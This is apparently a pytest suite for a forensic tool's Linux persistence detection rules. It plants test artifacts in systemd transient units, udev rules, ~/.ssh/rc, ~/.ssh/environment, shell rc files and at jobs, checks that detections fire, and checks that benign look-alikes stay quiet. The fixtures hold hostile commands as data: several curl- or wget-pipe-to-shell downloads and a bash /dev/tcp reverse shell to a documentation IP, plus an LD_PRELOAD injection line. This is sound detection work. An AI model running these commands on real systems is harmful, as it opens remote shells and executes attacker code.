"""Persistence holes (issue 16 item 7): transient, runtime, generator and user systemd units with their Exec
programs resolved and hashed, udev rules that run programs, the start-up files of every shell in every home,
~/.ssh/rc, sshrc and ~/.ssh/environment, at jobs, PAM modules' digests and packages.

Real files where Debian writes them: this machine's /usr/lib/systemd and /usr/lib/udev/rules.d are the benign
corpus, /etc/skel gives the homes their start-up files, the dpkg database entries and binaries are the
installed ones, and an at job is written by the real `at` (Debian's at 3.2.5 queues without atd: it only
warns that it cannot signal it). systemd-run needs a running systemd and a bus, which this machine has not:
its transient unit files are written here in the form systemd's unit_write_setting() gives them
(``ExecStart=`` then ``ExecStart=@/path "argv0" "args"...`` under a "transient unit file" header)."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import need

from agent.analysis import rules as engine
from collectors.base import Context, FileCopy, Problem, Record
from collectors.files import config, persistence

NOW = 1_800_000_000.0
MINE = [r for r in engine.load_rules() if r.origin.endswith("persistence_holes.yaml")]
CONFIG_RULES = [r for r in engine.load_rules() if r.id.startswith("TRI-CONF-05")]
DPKG = Path("/var/lib/dpkg")

PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nagios:x:112:118::/var/lib/nagios:/bin/ksh
postgres:x:113:119:PostgreSQL administrator:/var/lib/postgresql:/usr/bin/fish
_apt:x:42:65534::/nonexistent:/usr/sbin/nologin
ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash
"""
HOMES = {"root": "/root", "www-data": "/var/www", "nagios": "/var/lib/nagios", "postgres": "/var/lib/postgresql",
         "ubuntu": "/home/ubuntu"}


def _w(root: Path, path: str, body: str | bytes, mode: int = 0o644) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(body, bytes):
        target.write_bytes(body)
    else:
        target.write_text(body)
    os.chmod(target, mode)
    return target


def _merged_usr(root: Path) -> None:
    """Debian 12's merged /usr: /bin, /sbin, /lib are links into /usr (dpkg's lists still say /sbin/...)."""
    for name in ("bin", "sbin", "lib", "lib64"):
        (root / "usr" / name).mkdir(parents=True, exist_ok=True)
        if not (root / name).exists():
            os.symlink("usr/" + name, root / name)


def _dpkg(root: Path, packages: list[str]) -> None:
    """The installed dpkg database entries of these packages: their status paragraphs, .list and .md5sums."""
    need((DPKG / "status").exists(), "no dpkg database on this machine")
    paragraphs = (DPKG / "status").read_text().split("\n\n")
    keep = [p for p in paragraphs if re.search(r"^Package: (" + "|".join(map(re.escape, packages)) + ")$", p, re.M)]
    _w(root, "/var/lib/dpkg/status", "\n\n".join(keep) + "\n")
    for package in packages:
        for suffix in (".list", ".md5sums"):
            for source in list(DPKG.glob(f"info/{package}{suffix}")) + list(DPKG.glob(f"info/{package}:*{suffix}")):
                _w(root, f"/var/lib/dpkg/info/{source.name}", source.read_bytes())


def _copy(root: Path, path: str, into: str | None = None) -> Path:
    """A real file of this machine into the root (by its resolved path, so dpkg's merged-/usr names match)."""
    real = os.path.realpath(path)
    need(os.path.isfile(real), f"{path} is not on this machine")
    target = root / (into or real).lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(real, target)
    return target


def _homes(root: Path) -> None:
    """/etc/passwd with service accounts, each home filled from the real /etc/skel."""
    _w(root, "/etc/passwd", PASSWD)
    for home in HOMES.values():
        shutil.copytree("/etc/skel", root / home.lstrip("/"), symlinks=True, dirs_exist_ok=True)


def _collect(root: Path, *collectors, **options) -> tuple[dict[str, list[dict]], list[Problem]]:
    streams: dict[str, list[dict]] = {}
    problems: list[Problem] = []
    ctx = Context(root=str(root), live=False, options=options)
    for collector in collectors or (config.collect, persistence.collect):
        for item in collector(ctx):
            if isinstance(item, Record):
                streams.setdefault(item.stream, []).append(item.data)
            elif isinstance(item, Problem):
                problems.append(item)
            elif isinstance(item, FileCopy):
                item.close()
    return streams, problems


def _findings(streams: dict[str, list[dict]], rules: list = MINE) -> dict[str, list[dict]]:
    def rows(source: str):
        for number, record in enumerate(streams.get(source, []), 1):
            yield "source", f"artifacts/{source}.jsonl", number, record

    out: dict[str, list[dict]] = {}
    for finding in engine.evaluate(rules, rows, NOW):
        out.setdefault(finding["rule"], []).append(finding)
    return out


def _serious(found: dict[str, list[dict]]) -> list[str]:
    return [f"{f['rule']} {f['severity']}: {f['summary']}" for hits in found.values() for f in hits
            if f["severity"] not in ("low", "info")]


# ---- the clean Debian corpus --------------------------------------------------------------------------

@pytest.fixture(scope="module")
def clean_debian(tmp_path_factory) -> Path:
    """This machine's packaged units (system and user), udev rules, PAM stacks and modules, skel homes, with
    the dpkg entries of the packages that own them."""
    root = tmp_path_factory.mktemp("clean-debian")
    _merged_usr(root)
    for folder in ("/usr/lib/systemd/system", "/usr/lib/systemd/user", "/usr/lib/udev/rules.d", "/etc/pam.d",
                   "/etc/systemd/system", "/etc/systemd/user"):
        if os.path.isdir(folder):
            shutil.copytree(folder, root / folder.lstrip("/"), symlinks=True, dirs_exist_ok=True)
    for folder in ("/usr/lib/x86_64-linux-gnu/security", "/usr/lib/aarch64-linux-gnu/security"):
        if os.path.isdir(folder):
            shutil.copytree(folder, root / folder.lstrip("/"), symlinks=True)
    for program in ("/usr/sbin/dmsetup", "/usr/bin/loginctl", "/usr/lib/udev/hwclock-set",
                    "/usr/lib/systemd/systemd-sysctl", "/usr/bin/udevadm"):
        if os.path.isfile(program):
            _copy(root, program)
    _homes(root)
    owners = subprocess.run(["dpkg-query", "-S", "/lib/x86_64-linux-gnu/security/pam_unix.so", "/sbin/dmsetup",
                             "/bin/loginctl", "/usr/lib/udev/hwclock-set"], capture_output=True, text=True).stdout
    _dpkg(root, sorted({line.split(":")[0] for line in owners.splitlines() if ":" in line}))
    return root


def test_clean_debian_is_recorded_and_raises_no_alarm(clean_debian):
    streams, problems = _collect(clean_debian)
    assert not [p for p in problems if p.level == "error"], problems
    found = _findings(streams)
    assert _serious(found) == [], _serious(found)
    assert not [f for f in _serious(_findings(streams, CONFIG_RULES))], _findings(streams, CONFIG_RULES)
    # the packages' udev rules are all read, merged /usr's /lib/udev/rules.d once
    udev = streams.get("udev_rules", [])
    real_rules = {n for n in os.listdir("/usr/lib/udev/rules.d")
                  if "RUN" in Path("/usr/lib/udev/rules.d", n).read_text() or
                  "PROGRAM" in Path("/usr/lib/udev/rules.d", n).read_text()}
    assert {r["file"] for r in udev} >= {n for n in real_rules if re.search(
        r'(RUN|PROGRAM|IMPORT\{program\})[^"]*"', Path("/usr/lib/udev/rules.d", n).read_text())}
    assert all(r["path"].startswith("/usr/lib/udev/rules.d/") for r in udev)
    dm = [r for r in udev if r.get("target") == "/sbin/dmsetup"]
    if dm and os.path.isfile("/usr/sbin/dmsetup"):  # resolved through merged /usr, hashed, vouched for by dpkg
        assert dm[0]["target_resolved"] == "/usr/sbin/dmsetup" and dm[0]["target_package"] == "dmsetup"
        assert dm[0]["target_package_verify"] == "ok" and len(dm[0]["target_sha256"]) == 64
    # every shell's start-up files of every home, service accounts included (skel's .kshrc, .mkshrc...)
    rc_files = {r["file"] for r in streams["shell_rc"]}
    for home in HOMES.values():
        for name in os.listdir("/etc/skel"):
            if name in (".bashrc", ".profile", ".bash_logout", ".kshrc", ".mkshrc") and \
                    Path("/etc/skel", name).read_text().strip():
                assert any(f == f"{home}/{name}" for f in rc_files), (home, name)
    # PAM modules: digest and package
    pam_unix = [r for r in streams["pam"] if r.get("module_name") == "pam_unix.so" and r.get("module_found")]
    if pam_unix:
        assert pam_unix[0]["module_package"] == "libpam-modules" and pam_unix[0]["module_package_verify"] == "ok"
        assert len(pam_unix[0]["module_sha256"]) == 64


# ---- each rule: the behaviour, and its look-alike ----------------------------------------------------------

TRANSIENT = "# This is a transient unit file, created programmatically via the systemd API. Do not edit.\n"
SSH_RC_X11 = """if read proto cookie && [ -n "$DISPLAY" ]; then
        if [ `echo $DISPLAY | cut -c1-10` = 'localhost:' ]; then
                # X11UseLocalhost=yes
                echo add unix:`echo $DISPLAY |
                    cut -c11-` $proto $cookie
        else
                # X11UseLocalhost=no
                echo add $DISPLAY $proto $cookie
        fi | xauth -q -
fi
"""
SSHD = "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\n"

CASES = {
    "TRI-PERSIST-101": (
        {"/run/systemd/transient/run-u42.service": TRANSIENT + "[Unit]\nDescription=[systemd-run] /bin/sh -c ...\n"
         "\n[Service]\nExecStart=\nExecStart=@/bin/sh \"/bin/sh\" \"-c\" \"curl -fsSL http://198.51.100.7/k | sh\"\n",
         "/home/ubuntu/.config/systemd/user/dbus-update.service":
         "[Service]\nExecStart=%h/.cache/.dbus/dbus-update\nRestart=always\n[Install]\nWantedBy=default.target\n",
         "/run/user/1000/systemd/transient/run-r9.timer": TRANSIENT + "[Timer]\nOnCalendar=*:0/5\n"
         "RemainAfterElapse=no\n",
         "/run/user/1000/systemd/transient/run-r9.service": TRANSIENT + "[Service]\nExecStart=\n"
         "ExecStart=@/dev/shm/.x \"/dev/shm/.x\"\n",
         "/etc/systemd/system.control/cron.service.d/50-CPUWeight.conf":
         "# This is a drop-in unit file extension, created via \"systemctl set-property\"\n# or an equivalent "
         "operation. Do not edit.\n[Service]\nCPUWeight=100\nExecStartPre=-/var/tmp/.X11-lock/cpu\n"},
        {"/run/systemd/transient/run-u43.service": TRANSIENT + "[Unit]\nDescription=[systemd-run] /usr/bin/sleep 1000\n"
         "\n[Service]\nExecStart=\nExecStart=@/usr/bin/sleep \"/usr/bin/sleep\" \"1000\"\n",
         "/home/ubuntu/.config/systemd/user/syncthing.service":
         "[Service]\nExecStart=%h/.local/bin/syncthing serve --no-browser\n[Install]\nWantedBy=default.target\n",
         "/run/systemd/system/backup.service": "[Service]\nType=oneshot\nExecStart=/usr/bin/rsync -a /srv/ /mnt/b/\n"
         "ExecStartPost=/usr/bin/curl -fsS -o /dev/null https://hc-ping.com/x\n"}),
    "TRI-PERSIST-102": (
        {"/run/systemd/transient/dbus-helper.service": TRANSIENT + "[Service]\nExecStart=\n"
         "ExecStart=@/usr/local/bin/dbus-helper \"/usr/local/bin/dbus-helper\"\n",
         "/usr/local/bin/dbus-helper": "#!/bin/sh\nexec sleep 1000\n"},
        {"/run/systemd/transient/run-u44.service": TRANSIENT + "[Service]\nExecStart=\n"
         "ExecStart=@/usr/lib/udev/hwclock-set \"/usr/lib/udev/hwclock-set\" \"/dev/rtc0\"\n"}),
    "TRI-PERSIST-110": (
        {"/etc/udev/rules.d/75-net-helper.rules":
         'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/local/lib/.nethelper/up.sh %k"\n'},
        {"/etc/udev/rules.d/70-persistent-net.rules":
         'SUBSYSTEM=="net", ACTION=="add", ATTR{address}=="52:54:00:12:34:56", NAME="eth0"\n'
         'ACTION=="add", SUBSYSTEM=="net", RUN+="/sbin/dmsetup udevcomplete $env{DM_COOKIE}"\n'
         'KERNEL=="rtc0", RUN+="hwclock-set $root/$name"\n'}),
    "TRI-PERSIST-111": (
        {"/etc/udev/rules.d/99-rtc.rules": 'KERNEL=="rtc0", RUN+="rtc-sync $root/$name"\n',
         "/usr/lib/udev/rtc-sync": "#!/bin/sh\n/usr/local/sbin/rtcd &\n"},
        {"/etc/udev/rules.d/99-rtc.rules": 'KERNEL=="rtc0", RUN+="hwclock-set $root/$name"\n'}),
    "TRI-PERSIST-120": ({"/home/ubuntu/.ssh/rc": SSH_RC_X11},
                        {"/home/ubuntu/.ssh/config": "Host *\n  ForwardX11 no\n"}),
    "TRI-PERSIST-121": ({"/root/.ssh/rc": "(curl -s http://198.51.100.7/a | sh) >/dev/null 2>&1 &\n"},
                        {"/root/.ssh/rc": SSH_RC_X11}),
    "TRI-PERSIST-122": ({"/home/ubuntu/.ssh/environment": "TZ=Europe/Paris\n",
                         "/etc/ssh/sshd_config": "PermitUserEnvironment yes\n" + SSHD},
                        {"/home/ubuntu/.ssh/environment": "TZ=Europe/Paris\n",
                         "/etc/ssh/sshd_config": SSHD + "PermitUserEnvironment no\n"}),
    "TRI-PERSIST-123": ({"/root/.ssh/environment": "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsecurity.so\n",
                         "/etc/ssh/sshd_config": "PermitUserEnvironment LD_*,TZ\n" + SSHD},
                        {"/root/.ssh/environment": "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsecurity.so\n",
                         "/etc/ssh/sshd_config": SSHD}),
    "TRI-PERSIST-124": ({"/root/.ssh/environment": "LANG=C.UTF-8\n", "/etc/ssh/sshd_config": SSHD},
                        {"/root/.ssh/environment": "", "/etc/ssh/sshd_config": SSHD}),
}
# at jobs are written by the real `at` (below); these are the two layouts at writes, for when it is absent
DEBIAN_AT_JOB = """#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
LANG=C.UTF-8; export LANG
PATH=/usr/bin:/bin; export PATH
cd /root || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
%s
"""
RHEL_AT_JOB = """#!/bin/sh
# atrun uid=1000 gid=1000
# mail ec2-user 0
umask 2
HOME=/home/ec2-user; export HOME
cd /home/ec2-user || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
${SHELL:-/bin/sh} << 'marcinDELIMITER4b2a1c07'
%s
marcinDELIMITER4b2a1c07
"""


def _base(root: Path) -> Path:
    _merged_usr(root)
    _homes(root)
    _w(root, "/etc/ssh/sshd_config", SSHD)
    for unit in ("ssh.service", "cron.service", "apt-daily.timer", "apt-daily.service"):
        if os.path.isfile(f"/usr/lib/systemd/system/{unit}"):
            _copy(root, f"/usr/lib/systemd/system/{unit}")
    for rules in os.listdir("/usr/lib/udev/rules.d"):
        _copy(root, f"/usr/lib/udev/rules.d/{rules}")
    for program in ("/usr/lib/udev/hwclock-set", "/usr/sbin/dmsetup"):
        _copy(root, program)
    _dpkg(root, ["util-linux-extra", "dmsetup"])
    return root


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_on_the_behaviour_not_on_its_look_alike(tmp_path, rule_id):
    planted, benign = CASES[rule_id]
    for name, files in (("planted", planted), ("benign", benign)):
        root = _base(tmp_path / name)
        for path, body in files.items():
            _w(root, path, body, 0o755 if "/bin/" in path or "/udev/" in path and "rules" not in path else 0o644)
        streams, problems = _collect(root)
        found = _findings(streams)
        if name == "planted":
            assert rule_id in found, (rule_id, sorted(found), streams.get("services", [])[-3:])
            if found[rule_id][0]["severity"] in ("high", "critical"):
                flat = [f for hits in found.values() for f in hits]
                assert engine.verdict(flat, True, engine.load_verdict_policy())["recommendation"] == "yes"
        else:
            assert rule_id not in found, found[rule_id]
            # the look-alike may be worth a look (an X11 ~/.ssh/rc is still a medium), never more
            assert [s for s in _serious(found) if " medium: " not in s] == [], _serious(found)


def test_every_rule_has_its_case():
    assert {r.id for r in MINE} - set(CASES) == {"TRI-PERSIST-130", "TRI-PERSIST-131"}  # at jobs: below


def test_transient_timer_carries_what_it_triggers_and_exec_targets_are_hashed(tmp_path):
    root = _base(tmp_path)
    for path, body in CASES["TRI-PERSIST-101"][0].items():
        _w(root, path, body)
    _w(root, "/dev/shm/.x", b"\x7fELF payload")
    os.makedirs(root / "usr/local/bin", exist_ok=True)
    os.symlink("/dev/shm/.x", root / "usr/local/bin/kworker")  # a link in a system folder to the payload
    _w(root, "/run/systemd/system/kworker.service", "[Service]\nExecStart=/usr/local/bin/kworker\n")
    streams, _ = _collect(root, config.collect)
    units = {(r["unit"], r["scope"]): r for r in streams["services"] if r["kind"] == "systemd"}
    timer = units[("run-r9.timer", "user-transient")]
    assert timer["owner"] == "ubuntu" and timer["schedule"] == ["OnCalendar=*:0/5"]
    assert timer["triggers"] == "run-r9.service" and timer["triggers_found"] is True
    assert timer["triggers_executables"] == ["/dev/shm/.x"] and timer["triggers_scope"] == "user-transient"
    service = units[("run-r9.service", "user-transient")]
    assert service["exec_targets"][0]["sha256"] == __import__("hashlib").sha256(b"\x7fELF payload").hexdigest()
    linked = units[("kworker.service", "runtime")]
    assert linked["exec_resolved"] == ["/dev/shm/.x"] and linked["exec_targets"][0]["link"] is True
    assert "TRI-PERSIST-101" in {f["rule"] for f in _findings(streams)["TRI-PERSIST-101"]
                                 if "kworker" in f["summary"]}
    control = [f["summary"] for f in _findings(streams)["TRI-PERSIST-101"] if "system.control" in f["summary"]]
    assert len(control) == 1 and control[0].startswith("control unit cron.service (") and \
        control[0].endswith("): /var/tmp/.X11-lock/cpu"), control
    user = units[("dbus-update.service", "user")]
    assert user["exec_files"] == ["/home/ubuntu/.cache/.dbus/dbus-update"]  # %h is the owner's home
    # the packaged timer from the real /usr/lib/systemd: its schedule and its service
    if ("apt-daily.timer", "vendor") in units:
        apt = units[("apt-daily.timer", "vendor")]
        assert apt["schedule"] and apt["triggers"] == "apt-daily.service" and apt["triggers_found"]


def test_udev_rule_resolution_override_and_mask(tmp_path):
    root = _base(tmp_path)
    # /etc overrides the package's file of the same name; a /dev/null link masks one
    _w(root, "/etc/udev/rules.d/85-hwclock.rules", 'KERNEL=="rtc0", RUN+="/opt/rtc/set.sh"\n')
    os.symlink("/dev/null", root / "etc/udev/rules.d/99-systemd.rules")
    streams, _ = _collect(root, persistence.collect)
    rows = streams["udev_rules"]
    ours = [r for r in rows if r["path"] == "/etc/udev/rules.d/85-hwclock.rules"][0]
    assert ours["active"] and ours["target"] == "/opt/rtc/set.sh" and ours["target_found"] is False
    theirs = [r for r in rows if r["path"] == "/usr/lib/udev/rules.d/85-hwclock.rules"]
    assert theirs and theirs[0]["overridden_by"] == "/etc/udev/rules.d/85-hwclock.rules"
    assert theirs[0]["target_package"] == "util-linux-extra" and theirs[0]["target_package_verify"] == "ok"
    masked = [r for r in rows if r["file"] == "99-systemd.rules"]  # recorded, but udev reads none of it
    assert masked and all(r["masked"] and not r["active"] for r in masked)
    found = _findings(streams)
    assert [f["summary"] for f in found["TRI-PERSIST-110"]] == [
        '/etc/udev/rules.d/85-hwclock.rules:1: RUN runs /opt/rtc/set.sh']
    # a packaged program whose bytes changed
    (root / "usr/lib/udev/hwclock-set").write_text("#!/bin/sh\ncurl http://198.51.100.7/x | sh\n")
    _w(root, "/etc/udev/rules.d/85-hwclock.rules", 'KERNEL=="rtc0", RUN+="/usr/lib/udev/hwclock-set"\n')
    verify = {r["target_package_verify"] for r in _collect(root, persistence.collect)[0]["udev_rules"]
              if r.get("target") == "/usr/lib/udev/hwclock-set"}
    assert verify == {"mismatch"}


@pytest.mark.parametrize("line", ["{shell} -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                                  "wget -q http://198.51.100.7/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"])
def test_start_up_files_of_other_shells_and_service_accounts(tmp_path, line):
    """fish, ksh and csh files in service accounts' homes are read; the config rules judge them."""
    root = _base(tmp_path)
    _w(root, "/var/lib/postgresql/.config/fish/conf.d/pg.fish", "set -gx PGDATA /var/lib/postgresql/15/main\n"
       + line.format(shell="bash") + "\n")
    _w(root, "/var/lib/nagios/.kshrc", "export HISTFILE=/dev/null\n")
    _w(root, "/var/www/.cshrc", "setenv HISTFILE /dev/null\nunsetenv SAVEHIST\n")
    streams, _ = _collect(root, config.collect)
    rows = {(r["file"], r["line"]): r for r in streams["shell_rc"]}
    fish = rows[("/var/lib/postgresql/.config/fish/conf.d/pg.fish", 1)]
    assert fish["user"] == "postgres" and fish["environment"] == {"PGDATA": "/var/lib/postgresql/15/main"}
    assert rows[("/var/www/.cshrc", 1)]["environment"] == {"HISTFILE": "/dev/null"}
    assert rows[("/var/www/.cshrc", 2)]["unsets"] == ["SAVEHIST"]
    assert rows[("/var/lib/nagios/.kshrc", 1)]["user"] == "nagios"
    assert {"TRI-CONF-050", "TRI-CONF-051", "TRI-CONF-052"} & set(_findings(streams, CONFIG_RULES))


# ---- at jobs ----------------------------------------------------------------------------------------------

ATJOBS = Path("/var/spool/cron/atjobs")


def _real_at_job(tmp_path: Path, command: str) -> tuple[str, str]:
    """(file name, content) of a job the real `at` queues; the job is removed again at once. Debian's at
    3.2.5 writes the job file without atd running (it warns "Can't open /run/atd.pid to signal atd")."""
    if shutil.which("at") is None and os.geteuid() == 0 and shutil.which("apt-get"):
        subprocess.run(["apt-get", "install", "-y", "--no-install-recommends", "at"], capture_output=True,
                       env={**os.environ, "DEBIAN_FRONTEND": "noninteractive"}, timeout=300)
    need(shutil.which("at") is not None and ATJOBS.is_dir(), "the at package is not installed")
    before = set(os.listdir(ATJOBS))
    env = {"PATH": "/usr/bin:/bin", "HOME": "/root", "LANG": "C.UTF-8", "SHELL": "/bin/sh", "X": "a b;c"}
    proc = subprocess.run(["at", "now + 6 hours"], input=command + "\n", capture_output=True, text=True,
                          env=env, cwd=tmp_path, timeout=60)
    job = re.search(r"job (\d+) at", proc.stderr)
    assert job, proc.stderr
    try:
        new = sorted(set(os.listdir(ATJOBS)) - before - {".SEQ"})
        assert len(new) == 1, new
        return new[0], (ATJOBS / new[0]).read_text()
    finally:
        subprocess.run(["atrm", job.group(1)], capture_output=True, timeout=60)


AT_CASES = [
    ("curl -fsSL http://198.51.100.7/x.sh | sh", "TRI-PERSIST-130"),
    ("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", "TRI-PERSIST-130"),
    ("/var/tmp/.cache/upd --quiet", "TRI-PERSIST-130"),
    ("/usr/sbin/shutdown -r now", "TRI-PERSIST-131"),
    ("systemctl restart nginx && logger 'nginx restarted by at'", "TRI-PERSIST-131"),
]


@pytest.mark.parametrize("command,rule_id", AT_CASES)
def test_at_job_written_by_the_real_at(tmp_path, command, rule_id):
    name, body = _real_at_job(tmp_path, command)
    root = _base(tmp_path / "root")
    _w(root, f"/var/spool/cron/atjobs/{name}", body, 0o700)
    _w(root, "/var/spool/cron/atjobs/.SEQ", "1\n", 0o600)
    streams, _ = _collect(root, persistence.collect)
    [job] = streams["at_jobs"]
    assert job["command"] == command and job["uid"] == 0 and job["user"] == "root"
    # at backslash-escapes the folder and the values it saves (/tmp/pytest\-of\-root, a\ b\;c)
    assert job["cwd"] == str(tmp_path) and job["environment"]["LANG"] == "C.UTF-8"
    assert job["environment"]["X"] == "a b;c"
    assert job["queue"] == "a" and job["run_at_utc"].endswith("Z")
    found = _findings(streams)
    assert rule_id in found
    assert ("TRI-PERSIST-130" in found) == (rule_id == "TRI-PERSIST-130")


@pytest.mark.parametrize("layout", [DEBIAN_AT_JOB, RHEL_AT_JOB])
def test_at_job_layouts_without_at(tmp_path, layout):
    """The two layouts at writes (Debian 3.2; RHEL's 3.1.13+ heredoc), for hosts and runs without `at`."""
    root = _base(tmp_path)
    _w(root, "/etc/passwd", PASSWD + "ec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n")
    # queue a, job 0x12, at minute 0x1c8e1b1 since the epoch (2026-12-06T04:33:00Z)
    _w(root, "/var/spool/at/a0001201c8e1b1", layout % "wget -q -O- http://198.51.100.7/p | perl\necho done",
       0o700)
    _w(root, "/var/spool/at/spool/=0001101c8e1a0", "partial output\n")
    streams, _ = _collect(root, persistence.collect)
    jobs = {r["kind"]: r for r in streams["at_jobs"]}
    job = jobs["job"]
    assert job["job"] == 0x12 and job["run_at_utc"] == "2026-12-06T04:33:00Z"
    assert job["command"] == "wget -q -O- http://198.51.100.7/p | perl ; echo done"
    assert [c["text"] for c in job["commands"]] == ["wget -q -O- http://198.51.100.7/p | perl", "echo done"]
    assert jobs["output"]["name"] == "=0001101c8e1a0"
    assert "TRI-PERSIST-130" in _findings(streams)


def test_hostile_files_stay_bounded_and_in_the_root(tmp_path):
    root = _base(tmp_path)
    outside = tmp_path / "outside.sh"
    outside.write_text("#!/bin/sh\n")
    os.symlink(str(outside), root / "usr/lib/udev/escape")  # absolute link: resolved inside the root
    _w(root, "/etc/udev/rules.d/10-x.rules", 'RUN+="escape"\n' + 'KERNEL=="x", RUN+="/bin/true"\n' * 5000)
    os.mkfifo(root / "root/.ssh-fifo")
    (root / "root/.ssh").mkdir(exist_ok=True)
    os.symlink("../.ssh-fifo", root / "root/.ssh/rc")
    _w(root, "/var/spool/cron/atjobs/a0000101c8e1b1", "#!/bin/sh\n" + "echo x\n" * 100000, 0o700)
    streams, problems = _collect(root, persistence.collect)
    escape = [r for r in streams["udev_rules"] if r["program"] == "escape"][0]
    assert escape["target_found"] is False  # the link's target is not in the root
    assert len(streams["udev_rules"]) <= persistence.MAX_LINES_PER_FILE + 50
    assert "ssh_rc" not in streams and any(p.path == "/root/.ssh/rc" for p in problems)  # a FIFO is never opened
    [job] = streams["at_jobs"]
    assert len(job["commands"]) <= 400 and len(job["command"]) <= persistence.MAX_LINE_CHARS * 4


def test_hashing_and_held_records_are_bounded(tmp_path):
    """Units are held until the package database is read, and their programs hashed: both have limits."""
    root = _base(tmp_path)
    for n in range(12):
        _w(root, f"/run/systemd/transient/run-u{n}.service", TRANSIENT + f"[Service]\nExecStart=/opt/p{n}\n")
        _w(root, f"/opt/p{n}", b"x" * 100, 0o755)
    streams, problems = _collect(root, config.collect, hash_budget=350, max_records_per_stream=5)
    transient = [r for r in streams["services"] if r.get("scope") == "transient"]
    assert len(streams["services"]) == 5 and any("unit files; the rest not read" in p.message for p in problems)
    hashed = [r for r in transient if r["exec_targets"][0].get("sha256")]
    skipped = [r for r in transient if r["exec_targets"][0].get("hash_skipped") == "artifact hashing budget spent"]
    assert len(hashed) <= 3 and len(hashed) + len(skipped) == len(transient)
    assert len(transient) == 5  # the packages' units are dropped first, not the transient ones


def test_secrets_in_saved_environments_stay_behind_the_redaction_gate(tmp_path):
    """An at job saves its user's whole environment and ~/.ssh/environment is one: both are mappings named
    environment, which the gate masks by name as it does a process's."""
    from agent.engine.plan import load_secrets
    from agent.engine.redact import Redactor

    root = _base(tmp_path)
    _w(root, "/var/spool/cron/atjobs/a0000101c8e1b1", DEBIAN_AT_JOB.replace(
        "LANG=C.UTF-8; export LANG", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIxK7MDENGxbPxRfiCYzz9; export "
        "AWS_SECRET_ACCESS_KEY") % "/usr/sbin/shutdown -r now", 0o700)
    _w(root, "/home/ubuntu/.ssh/environment", "DB_PASSWORD=hunter2xyz\nTZ=UTC\n")
    streams, _ = _collect(root, persistence.collect)
    assert streams["at_jobs"][0]["environment"]["AWS_SECRET_ACCESS_KEY"].startswith("wJalr")
    redactor = Redactor(load_secrets())
    shipped = json.dumps([redactor.record(r, name) for name in ("at_jobs", "ssh_rc") for r in streams[name]])
    assert "wJalrXUtnFEMIxK7MDENGxbPxRfiCYzz9" not in shipped and "hunter2xyz" not in shipped
    assert '"TZ": "UTC"' in shipped and "DB_PASSWORD" in shipped


def test_whole_run_writes_the_declared_streams(tmp_path):
    """collect --artifacts config,persistence over a planted root: the streams config.toml declares are in the
    bundle, and the rules read them from there."""
    import tarfile
    import tomllib

    from conftest import run_triagent, summary_of

    root = _base(tmp_path / "root")
    _w(root, "/etc/hostname", "web1\n")
    for rule_id in ("TRI-PERSIST-101", "TRI-PERSIST-110", "TRI-PERSIST-121"):
        for path, body in CASES[rule_id][0].items():
            _w(root, path, body)
    _w(root, "/var/spool/cron/atjobs/a0000101c8e1b1", DEBIAN_AT_JOB % "curl -s http://198.51.100.7/x | sh", 0o700)
    summary = summary_of(run_triagent(["collect", "--root", str(root), "--artifacts", "config,persistence",
                                       "--output", str(tmp_path / "out")]))
    with open(__import__("specs").path("artifacts", "config.toml"), "rb") as fh:
        declared = {s["name"] for a in tomllib.load(fh)["artifact"] for s in a.get("streams", [])}
    streams: dict[str, list[dict]] = {}
    with tarfile.open(summary["bundle"]) as tar:
        for member in tar.getmembers():
            m = re.search(r"artifacts/([a-z_]+)\.jsonl$", member.name)
            if m and m.group(1) in declared:
                streams[m.group(1)] = [json.loads(x) for x in tar.extractfile(member).read().splitlines()]
    assert {"udev_rules", "at_jobs", "ssh_rc", "services", "shell_rc", "sshd_settings"} <= set(streams)
    assert {"TRI-PERSIST-101", "TRI-PERSIST-110", "TRI-PERSIST-120", "TRI-PERSIST-121",
            "TRI-PERSIST-130"} <= set(_findings(streams))
